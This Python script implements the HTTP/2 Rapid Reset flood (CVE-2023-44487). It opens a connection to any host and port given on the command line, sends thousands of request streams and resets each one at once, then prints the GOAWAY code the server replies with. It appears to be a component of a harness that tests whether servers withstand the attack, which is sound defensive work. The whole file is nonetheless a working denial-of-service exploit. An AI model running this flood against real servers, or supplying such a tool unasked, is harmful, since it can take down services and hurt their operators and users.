#!/usr/bin/python3
"""Rapid Reset (CVE-2023-44487) flood: opens streams and resets each at once.

usage: rapid_reset.py HOST PORT [STREAMS]
Prints the GOAWAY error code the server ended with (e.g. ENHANCE_YOUR_CALM),
or NONE if the connection survived every stream. Exit 0 either way; the
caller judges. Needs Debian's python3-h2 (run with /usr/bin/python3).
"""
import socket
import sys

import h2.config
import h2.connection
import h2.events


def main() -> None:
    host, port = sys.argv[1], int(sys.argv[2])
    streams = int(sys.argv[3]) if len(sys.argv) > 3 else 5000
    sock = socket.create_connection((host, port), timeout=10)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    headers = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", host)]
    result = "NONE"
    sent = 0
    try:
        while sent < streams:
            for _ in range(100):
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, headers, end_stream=True)
                conn.reset_stream(sid)
                sent += 1
            sock.sendall(conn.data_to_send())
        # Read until the server's GOAWAY or close.
        while True:
            data = sock.recv(65536)
            if not data:
                break
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    result = event.error_code.name
                    raise StopIteration
            sock.sendall(conn.data_to_send())
    except StopIteration:
        pass
    except (ConnectionResetError, BrokenPipeError, socket.timeout):
        # The server may close while we still send; what it said before is what counts.
        try:
            data = sock.recv(65536)
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    result = event.error_code.name
        except Exception:
            pass
    except h2.exceptions.ProtocolError:
        pass
    print(result)


if __name__ == "__main__":
    main()
